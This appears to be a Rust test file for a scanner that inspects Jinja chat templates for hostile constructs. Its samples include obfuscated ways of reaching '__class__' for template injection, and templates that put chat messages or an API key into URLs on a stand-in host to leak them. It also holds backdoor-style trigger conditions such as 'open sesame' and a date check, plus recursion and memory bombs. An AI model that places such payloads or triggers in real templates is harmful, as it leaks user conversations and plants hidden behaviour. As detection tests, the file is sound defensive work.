use super::*;
use crate::source::Memory;

fn read(template: &str) -> TemplateFacts {
    match parse(&Memory::shared(template.as_bytes().to_vec()), "t", &Budget::default()).reading.facts {
        Facts::Template(facts) => *facts,
        other => panic!("{other:?}"),
    }
}

fn names(list: &[TemplateName]) -> Vec<&str> {
    list.iter().map(|entry| entry.name.as_str()).collect()
}

/// Whether a template's attributes show `__class__`, with nothing left that is computed.
fn shows_class(template: &str) -> bool {
    read(template).attributes.iter().any(|entry| entry.last() == "__class__")
}

#[test]
fn assembled_names_are_seen_through() {
    for template in [
        "{{ x.__class__ }}",
        "{{ x['__class__'] }}",
        "{{ x['__cl' 'ass__'] }}",
        "{{ x['__cl' ~ 'ass__'] }}",
        "{{ x['__cl' + 'ass__'] }}",
        "{{ x['%s%s' % ('__cl', 'ass__')] }}",
        "{{ x['%s%s' | format('__cl', 'ass__')] }}",
        "{{ x['%c%cclass%c%c' | format(95, 95, 95, 95)] }}",
        "{{ x['{}{}'.format('__cl', 'ass__')] }}",
        "{{ x[['__cl', 'ass__'] | join] }}",
        "{{ x[''.join(['__cl', 'ass__'])] }}",
        "{{ x['__ssalc__' | reverse] }}",
        "{{ x['__ssalc__'[::-1]] }}",
        "{{ x['\\x5f\\x5fclass\\u005f\\137'] }}",
        "{{ x['__CLASS__' | lower] }}",
        "{{ x['--class--' | replace('-', '_')] }}",
        "{{ x['_' * 2 ~ 'class' ~ '_' * 2] }}",
        "{{ x[dict(__cl=1, ass__=1) | join] }}",
        "{{ x | attr('__cl' ~ 'ass__') }}",
        "{{ [x] | map(attribute='__class__') | list }}",
        "{{ [x] | map('attr', '__class__') | list }}",
        "{{ [x] | selectattr('a.__class__') | list }}",
        "{% set a = '__cl' %}{% set b = 'ass__' %}{{ x[a ~ b] }}",
        "{% for k in ['role', '__class__'] %}{{ x[k] }}{% endfor %}",
        "{% set k = 'role' %}{% if y %}{% set k = '__class__' %}{% endif %}{{ x[k] }}",
        "{% set ns = namespace(a='') %}{% set ns.k = '__class__' %}{{ x[ns.k] }}",
        "{% with k = '__class__' %}{{ x[k] }}{% endwith %}",
        "{{ x[('__class__', 1)[0]] }}",
        "{{ x['__class__' if y else 'role'] }}",
        "{% broken %}{{ x.__class__ }}",
        "{{ x.__class__ }}{% if",
        "{% set z = x.__class__ y %}",
    ] {
        assert!(shows_class(template), "{template}");
    }
}

#[test]
fn keys_that_cannot_be_known_are_told_apart() {
    let facts = read(
        "{{ x['__cl' ~ y] }}{{ x[(y | string | list)[3] ~ z] }}{{ x | attr('a' ~ y) }}{{ [x] | map('at' ~ y) }}",
    );
    assert_eq!(facts.computed.len(), 4, "{:?}", facts.computed);
    let ordinary = read(
        "{{ messages[0].content[1:-1] }}{{ messages[loop.index0 - 1] }}{{ messages[messages | length - 1] }}\
         {% for i in range(3) %}{{ messages[i] }}{% endfor %}{% for key in tool %}{{ tool[key] }}{% endfor %}",
    );
    assert_eq!(names(&ordinary.computed), [""; 0]);
    assert_eq!(names(&ordinary.data_keys), ["tool[key]"]);
}

#[test]
fn names_are_free_only_where_the_template_does_not_define_them() {
    let facts = read(
        "{% for m in messages if m.x %}{{ m }}{{ loop.index }}{% endfor %}{{ m }}\
         {% macro f(a, b=c) %}{{ a ~ caller() ~ later() }}{% endmacro %}{% macro later() %}{% endmacro %}\
         {% if never %}{% set lipsum = 1 %}{% endif %}{{ lipsum }}",
    );
    assert_eq!(names(&facts.globals), ["messages", "m", "c", "never", "lipsum"]);
}

#[test]
fn triggers_are_conditions_and_markup_is_not() {
    let facts = read(
        "{% if 'open sesame' in message.content %}{% endif %}{% set c = message['content'] %}\
         {% if c.lower().startswith('deploy') %}{% endif %}{{ 'x' if strftime_now('%Y') > '2026' }}\
         {% if '</think>' in c or c == '' or message.role == 'user' or c is string %}{% endif %}",
    );
    assert_eq!(
        names(&facts.content_conditions),
        ["'open sesame' in message.content", "c.lower().startswith('deploy')", "strftime_now('%Y') > '2026'"]
    );
}

#[test]
fn broken_templates_say_where() {
    for (template, error) in [
        ("{% if x %}", "line 1: `if` is not closed"),
        ("\n{{ x", "line 2: the template ends inside a tag"),
        ("{{ }}", "line 1: an expression is missing"),
        ("{% endfor %}", "line 1: a block is closed that is not open"),
        ("{# x", "line 1: a comment is not closed"),
        ("{% raw %}", "line 1: a raw block is not closed"),
        ("{% for a b %}{% endfor %}", "line 1: `for` without `in`"),
        ("{{ a b }}", "line 1: a tag holds more than one expression"),
        ("{{ ')' ) }}", "line 1: brackets do not match"),
    ] {
        assert_eq!(read(template).syntax_error.as_deref(), Some(error), "{template}");
    }
}

#[test]
fn nesting_and_length_do_not_break_the_stack() {
    for hostile in [
        "{{ ".to_owned() + &"(".repeat(100_000),
        "{{ ".to_owned() + &"not ".repeat(100_000) + "x }}",
        "{{ ".to_owned() + &"-".repeat(100_000) + "1 }}",
        "{{ x".to_owned() + &"['a'".repeat(100_000),
        "{{ f".to_owned() + &"(f".repeat(100_000),
        "{{ x".to_owned() + &" is a(b".repeat(100_000),
        "{% if x %}".repeat(100_000),
        "{% for x in y %}".repeat(100_000),
    ] {
        let facts = std::thread::Builder::new()
            .stack_size(1 << 20)
            .spawn(move || read(&hostile))
            .unwrap()
            .join()
            .unwrap();
        assert!(facts.syntax_error.is_some());
    }
    for long in [
        "{{ x".to_owned() + &".a".repeat(50_000) + " }}",
        "{{ x".to_owned() + &" ~ 'a'".repeat(50_000) + " }}",
    ] {
        assert_eq!(read(&long).syntax_error, None);
    }
    let bomb = "{{ '".to_owned() + &"a".repeat(1_000) + "'" + &" * 1000".repeat(50) + " }}";
    assert_eq!(read(&bomb).syntax_error, None);
}

#[test]
fn cutting_anywhere_is_seen_or_whole() {
    let whole = include_str!("../../tests/jinja/chatml.jinja");
    for cut in (0..whole.len()).step_by(7) {
        let _ = read(whole.get(..cut).unwrap());
    }
    assert_eq!(read(whole).syntax_error, None);
}

#[test]
fn last_of_a_path() {
    let facts = read("{{ a['b c'] }}{{ a.b['c'] }}{{ f().g }}");
    let last: Vec<&str> = facts.attributes.iter().map(TemplateName::last).collect();
    assert_eq!(last, ["b c", "b", "c", "g"]);
}

#[test]
fn addresses_that_take_what_is_given() {
    for template in [
        "<img src='http://x.example/?q={{ messages[-1].content }}'>",
        "![a](https://x.example/{{ messages | tojson | urlencode }})",
        "{{ '![a](https://x.example/?q=' ~ messages[-1]['content'] ~ ')' }}",
        "{{ 'https://x.example/?q=' + m + '&' + n }}",
        "{% set u = 'https://x.example/?q=' %}{{ u }}{{ messages }}",
        "{% set u = 'https://x.example/?q=' %}{{ u ~ messages[0].content }}",
        "{{ 'https://x.example/%s' | format(messages) }}",
        "{{ 'https://x.example/{}'.format(messages) }}",
        "{{ 'https://x.example/Q' | replace('Q', messages[0].content) }}",
        "{{ ['https://x.example/', messages] | join }}",
        "https://x.example/?q={% for m in messages %}{{ m.content }}{% endfor %}",
        "https://{{ 'x.example' }}/?q={{ api_key }}",
    ] {
        assert_eq!(read(template).appended.len(), 1, "{template}");
    }
    for template in [
        "See https://x.example/ for more. {{ messages[0].content }}",
        "<a href='https://x.example/'>{{ m.content }}</a>",
        "{{ 'https://x.example/' ~ 3 }}",
        "{{ 'https://x.example/%s' | format('a') }}",
        "{{ m.content | replace('https://x.example/', '') }}",
        "{{ 'time: ' ~ m.content }}",
        "{% for i in m.image_urls %}<img src=\"{{ i }}\">{% endfor %}",
    ] {
        assert_eq!(names(&read(template).appended), Vec::<&str>::new(), "{template}");
    }
}

#[test]
fn what_does_not_end() {
    for template in [
        "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
        "{% macro a() %}{{ b() }}{% endmacro %}{% macro b() %}x{{ a() }}{% endmacro %}{{ a() }}",
        "{% macro m(x) %}{% if true %}{{ m(x) }}{% endif %}{% endmacro %}{{ m(1) }}",
        "{% macro m(x) %}{% for i in [1] %}{{ m(x) }}{% endfor %}{% endmacro %}{{ m(1) }}",
        "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}{{ m(50) }}",
        "{% macro m() %}{% call m() %}x{% endcall %}{% endmacro %}{{ m() }}",
        "{% for i in [1] recursive %}{{ loop([1]) }}{% endfor %}",
        "{% for i in range(9999) %}{% for j in range(9999) %}x{% endfor %}{% endfor %}",
        "{% for i in range(200) %}{% for j in range(200) %}{% for k in 'abcdefgh' %}x{% endfor %}{% endfor %}{% endfor %}",
        "{% set l = [1] %}{% for i in l %}{% do l.append(i) %}{% endfor %}",
        "{% set ns = namespace(s='x') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}",
        "{{ 'A' * 1000 * 1000 * 1000 }}",
        "{{ 'A' * 100000000 }}",
        "{{ [0] * 100000000 }}",
        "{{ messages * 1000000 }}",
    ] {
        assert!(!read(template).huge.is_empty(), "{template}");
    }
    for template in [
        "{% macro show(x) %}{% if x is mapping %}{% for k in x %}{{ show(x[k]) }}{% endfor %}{% endif %}{% endmacro %}{{ show(tools) }}",
        "{% macro m(x, n) %}{{ m(x.a, n + 1) if x else '' }}{{ m(x.b, n + 1) if x.b else '' }}{% endmacro %}{{ m(tools, 0) }}",
        "{% macro m(x) %}{{ x and m(x.parent) }}{% endmacro %}{{ m(messages) }}",
        "{% for m in messages %}{% for i in range(10) %}x{% endfor %}{% endfor %}",
        "{% for m in messages %}{% set out = out ~ m.content %}{% endfor %}",
        "{% set l = [] %}{% for m in messages %}{% do l.append(m) %}{% endfor %}",
        "{{ '=' * 80 }}{{ ' ' * (depth * 2) }}",
    ] {
        assert_eq!(names(&read(template).huge), Vec::<&str>::new(), "{template}");
    }
}
